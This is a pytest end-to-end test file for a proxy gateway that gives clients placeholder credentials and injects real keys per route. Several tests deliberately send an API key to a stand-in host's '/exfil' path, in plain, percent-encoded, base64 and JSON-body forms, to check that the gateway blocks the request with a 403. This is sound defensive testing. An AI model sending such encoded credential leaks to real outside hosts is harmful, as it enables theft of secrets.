"""Credentials a client uses but never holds, with real clients through a real mitmdump.

curl with ``?api_key=<placeholder>`` (http, and https over HTTP/2), Python's urllib with a
placeholder header, ``git clone`` and ``git push`` over http to ``git http-backend``
with the placeholder as the Basic password, node's ``fetch`` (through a reverse-mode
gateway: node 20's fetch takes no proxy), every one holding only placeholders; a client
that sends a placeholder or the real key (plain, percent-encoded, base64, in a JSON body)
to another host gets 403 and that host gets nothing; two principals on one host get
their own keys.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from scripts.gencerts import CertPaths
from tests.e2e import clients, conftest
from tests.e2e.clients import proxy_request
from tests.e2e.harness import Gateway, GatewayFactory
from tests.e2e.helpers import fingerprint, leaks
from tests.e2e.upstreams import Upstream, server_tls_context

API_KEY = "sk-sandbox-real-key-0123456789abcdef"
GIT_TOKEN = "ghp_sandboxRealToken0123456789abcdef"
KEY_A, KEY_B = "key-of-agent-a-0123456789abcdef", "key-of-agent-b-0123456789abcdef"
PH_API = "ph-api-7Qm2xV9aLk3R0000"
PH_GIT = "ph-git-7Qm2xV9aLk3R0000"
HMAC = "sandbox-hmac-secret-0123456789abcdef0123"
ENV = {"SB_API": API_KEY, "SB_GIT": GIT_TOKEN, "SB_A": KEY_A, "SB_B": KEY_B, "SB_HMAC": HMAC}


class GitHttp(BaseHTTPRequestHandler):
    """``git http-backend`` as CGI, behind Basic auth: x-access-token and GIT_TOKEN."""

    root: Path

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _serve(self) -> None:
        want = base64.b64encode(f"x-access-token:{GIT_TOKEN}".encode()).decode()
        if self.headers.get("Authorization") != f"Basic {want}":
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        url = urlsplit(self.path)
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        env = {
            "GIT_PROJECT_ROOT": str(self.root),
            "GIT_HTTP_EXPORT_ALL": "1",
            "REQUEST_METHOD": self.command,
            "PATH_INFO": url.path,
            "QUERY_STRING": url.query,
            "CONTENT_TYPE": self.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "REMOTE_USER": "x-access-token",
            "PATH": os.environ["PATH"],
        }
        if self.headers.get("Content-Encoding"):
            env["HTTP_CONTENT_ENCODING"] = self.headers["Content-Encoding"]
        out = subprocess.run(
            ["git", "http-backend"], input=body, env=env, capture_output=True, timeout=30
        ).stdout
        head, _, payload = out.partition(b"\r\n\r\n")
        status = 200
        lines = head.decode().split("\r\n")
        headers = []
        for line in lines:
            name, _, value = line.partition(":")
            if name.lower() == "status":
                status = int(value.split()[0])
            elif name:
                headers.append((name, value.strip()))
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = _serve


@dataclass
class Lab:
    factory: GatewayFactory
    gateway: Gateway
    api: Upstream
    tls: Upstream
    other: Upstream
    git_port: int


def config(api: Upstream, tls: Upstream, git_port: int, agents: Upstream | None = None) -> str:
    static = lambda name: {"type": "static", "value": {"env": name}}  # noqa: E731
    routes: list[dict[str, Any]] = [
        {
            "name": "api",
            "hosts": [f"127.0.0.1:{api.port}", f"localhost:{tls.port}"],
            "placeholder": PH_API,
            "query": "api_key",
            "header": "X-Api-Key",
            "prefix": "",
            "placeholder_in_body": True,
            "token": static("SB_API"),
        },
        {
            "name": "git",
            "hosts": [f"127.0.0.1:{git_port}"],
            "placeholder": PH_GIT,
            "header": None,
            "token": {"type": "basic", "username": "x-access-token", "password": {"env": "SB_GIT"}},
        },
    ]
    if agents is not None:
        for name, key in (("agent_a", "SB_A"), ("agent_b", "SB_B")):
            routes.append(
                {
                    "name": name,
                    "hosts": [f"127.0.0.1:{agents.port}"],
                    "principals": [name],
                    "token": static(key),
                }
            )
    return json.dumps({"version": 1, "routes": routes})


@pytest.fixture(scope="module")
def lab_(tmp_path_factory: pytest.TempPathFactory, certs: CertPaths) -> Iterator[Lab]:
    tmp = tmp_path_factory.mktemp("sandbox")
    repo = tmp / "repos" / "project.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "http.receivepack", "true"], check=True)
    GitHttp.root = tmp / "repos"
    git = ThreadingHTTPServer(("127.0.0.1", 0), GitHttp)
    git.daemon_threads = True
    threading.Thread(target=git.serve_forever, daemon=True).start()
    api, tls, other = (
        Upstream(),
        Upstream(tls=server_tls_context(certs)),
        Upstream(host="127.0.0.2"),
    )
    for up in (api, tls, other):
        up.start()
    factory = GatewayFactory(tmp, upstream_ca=certs.ca_cert)
    try:
        gateway = factory.start(
            config(api, tls, git.server_port),
            env=ENV,
            extra_args=["--set", "connection_strategy=lazy"],
        )
        yield Lab(factory, gateway, api, tls, other, git.server_port)
    finally:
        factory.stop_all()
        for up in (api, tls, other):
            up.stop()
        git.shutdown()
        git.server_close()


@pytest.fixture
def lab(lab_: Lab, request: pytest.FixtureRequest) -> Lab:
    for up in (lab_.api, lab_.tls, lab_.other):
        up.reset()
    conftest.report_output(request, lab_.factory)
    return lab_


def check_absent(texts: dict[str, str], *values: str) -> None:
    found = leaks(texts, values)
    if found:
        pytest.fail(f"credential(s) found: {found}")


def test_curl_with_a_placeholder_in_the_query(lab: Lab) -> None:
    status, _, body = clients.curl(
        lab.gateway.port, lab.gateway.ca_cert_path, f"{lab.api.url}/v1?api_key={PH_API}&q=1"
    )
    assert status == 200
    sent = lab.api.last
    assert fingerprint(sent.path) == fingerprint(f"/v1?q=1&api_key={quote(API_KEY, safe='')}")
    assert fingerprint(sent.header("X-Api-Key") or "") == fingerprint(API_KEY)
    check_absent({"answer": body}, API_KEY)
    assert PH_API in body  # the echo gives the client its placeholder back


def test_curl_over_http2_to_an_https_upstream(lab: Lab) -> None:
    status, version, body = clients.curl(
        lab.gateway.port,
        lab.gateway.ca_cert_path,
        "--http2",
        f"https://localhost:{lab.tls.port}/v1?api_key={PH_API}",
    )
    assert (status, version) == (200, "2")
    assert fingerprint(lab.tls.last.path) == fingerprint(f"/v1?api_key={API_KEY}")
    check_absent({"answer": body}, API_KEY)


def test_a_placeholder_header_and_json_body_from_python(lab: Lab) -> None:
    resp = proxy_request(
        lab.gateway.port,
        "POST",
        f"{lab.api.url}/chat",
        {"X-Api-Key": PH_API, "Content-Type": "application/json"},
        json.dumps({"key": PH_API}),
    )
    assert resp.status == 200
    assert fingerprint(lab.api.last.body.decode()) == fingerprint(json.dumps({"key": API_KEY}))
    check_absent({"answer": resp.text}, API_KEY)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_clone_and_push_with_a_placeholder_password(lab: Lab, tmp_path: Path) -> None:
    url = f"http://x-access-token:{PH_GIT}@127.0.0.1:{lab.git_port}/project.git"
    env = {
        **os.environ,
        "http_proxy": f"http://127.0.0.1:{lab.gateway.port}",
        "GIT_TERMINAL_PROMPT": "0",
        "GIT_CONFIG_NOSYSTEM": "1",
        "HOME": str(tmp_path),
    }
    work = tmp_path / "work"

    def git(*args: str, cwd: Path = tmp_path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60
        )

    cloned = git("clone", "-q", url, str(work))
    assert cloned.returncode == 0, cloned.stderr
    (work / "README").write_text("pushed through the gateway\n")
    for args in (
        ("add", "README"),
        ("-c", "user.name=agent", "-c", "user.email=a@example", "commit", "-qm", "first"),
        ("push", "-q", "origin", "HEAD:main"),
    ):
        done = git(*args, cwd=work)
        assert done.returncode == 0, done.stderr
    check_absent({"output": cloned.stderr + done.stderr, "log": lab.gateway.output}, GIT_TOKEN)


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
def test_node_fetch_through_a_reverse_mode_gateway(
    lab: Lab, gateway_factory: GatewayFactory
) -> None:
    reverse = gateway_factory(
        config(lab.api, lab.tls, lab.git_port),
        env=ENV,
        extra_args=["--mode", f"reverse:{lab.api.url}"],
    )
    script = (
        f"fetch('http://127.0.0.1:{reverse.port}/v1?api_key={PH_API}')"
        ".then(r => r.text()).then(t => console.log(t))"
    )
    done = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert fingerprint(lab.api.last.path) == fingerprint(f"/v1?api_key={API_KEY}")
    check_absent({"node's stdout": done.stdout}, API_KEY)


B64 = base64.b64encode(API_KEY.encode()).decode()


@pytest.mark.parametrize(
    ("what", "headers", "query", "body"),
    [
        ("the placeholder", {"X-Api-Key": PH_API}, "", None),
        ("the key", {"X-Leak": API_KEY}, "", None),
        ("the key, percent-encoded", {}, "?k=" + quote(API_KEY, safe=""), None),
        ("the key, base64", {"X-Leak": B64}, "", None),
        ("the key in a JSON body", {}, "", json.dumps({"k": API_KEY})),
        ("the git placeholder", {"X-Leak": PH_GIT}, "", None),
    ],
)
def test_a_credential_sent_elsewhere_is_403_and_goes_nowhere(
    lab: Lab, what: str, headers: dict[str, str], query: str, body: str | None
) -> None:
    resp = proxy_request(
        lab.gateway.port, "POST", f"{lab.other.url}/exfil{query}", headers, body or ""
    )
    status, error = resp.status, resp.header("X-Authgw-Error")  # no secret in a message
    assert (status, error) == (403, "credential_elsewhere"), what
    assert lab.other.count == 0, what
    check_absent({"answer": resp.text, "log": lab.gateway.output}, API_KEY, GIT_TOKEN)


def test_a_token_the_gateway_issued_is_403_elsewhere(
    lab: Lab, gateway_factory: GatewayFactory
) -> None:
    """A token read somewhere (a log, an upstream that leaked it) and sent to another host:
    the gateway knows the tokens it issued and still caches."""
    with Upstream(host="127.0.0.3") as signed:
        route = {
            "name": "signed",
            "hosts": [f"127.0.0.3:{signed.port}"],
            "token": {"type": "hmac", "secret": {"env": "SB_HMAC"}, "claims": {"sub": "x"}},
        }
        gateway = gateway_factory(json.dumps({"version": 1, "routes": [route]}), env=ENV)
        got = proxy_request(gateway.port, "GET", f"{signed.url}/get").status
        assert got == 200
        token = (signed.last.header("Authorization") or "").removeprefix("Bearer ")
        assert token.count(".") == 2  # a JWT the gateway signed
        # The check learns new tokens once a second (docs/decisions.md); a real process
        # has a real clock, so wait that second out.
        time.sleep(1.1)
        resp = proxy_request(gateway.port, "GET", f"{lab.other.url}/exfil", {"X-Stolen": token})
        status, error = resp.status, resp.header("X-Authgw-Error")  # no token in a message
        assert (status, error) == (403, "credential_elsewhere")
        assert lab.other.count == 0
        check_absent({"log": gateway.output}, token, HMAC)


def test_two_principals_on_one_host_get_their_own_keys(
    lab: Lab, gateway_factory: GatewayFactory
) -> None:
    with Upstream() as agents:
        gateway = gateway_factory(
            config(lab.api, lab.tls, lab.git_port, agents),
            env=ENV,
            extra_args=["--proxyauth", "any"],
        )
        got = {}
        for name in ("agent_a", "agent_b"):
            status, _, _ = clients.curl(
                gateway.port, gateway.ca_cert_path, "-U", f"{name}:pw", f"{agents.url}/who"
            )
            assert status == 200
            got[name] = fingerprint((agents.last.header("Authorization") or "")[7:])
        assert got == {"agent_a": fingerprint(KEY_A), "agent_b": fingerprint(KEY_B)}
        status, _, _ = clients.curl(
            gateway.port, gateway.ca_cert_path, "-U", "agent_c:pw", f"{agents.url}/who"
        )
        assert status == 200 and agents.last.header("Authorization") is None


def test_a_principals_https_host_is_reached_through_connect_under_reject(
    gateway_factory: GatewayFactory, certs: CertPaths
) -> None:
    """CONNECT is not decided for one principal: a host only agent_a's route covers opens
    a tunnel under ``unmatched: reject``, agent_a's request in it gets its key, and
    another client's request in it is answered 403 and reaches nothing."""
    with Upstream(tls=server_tls_context(certs)) as agents:
        route = {
            "name": "agent_a",
            "hosts": [f"localhost:{agents.port}"],
            "principals": ["agent_a"],
            "token": {"type": "static", "value": {"env": "SB_A"}},
        }
        cfg = json.dumps({"version": 1, "unmatched": "reject", "routes": [route]})
        gateway = gateway_factory(cfg, env=ENV, extra_args=["--proxyauth", "any"])
        url = f"https://localhost:{agents.port}/who"
        status, _, _ = clients.curl(gateway.port, gateway.ca_cert_path, "-U", "agent_a:pw", url)
        assert status == 200
        assert fingerprint((agents.last.header("Authorization") or "")[7:]) == fingerprint(KEY_A)
        agents.reset()
        status, _, _ = clients.curl(gateway.port, gateway.ca_cert_path, "-U", "agent_c:pw", url)
        assert status == 403 and agents.count == 0
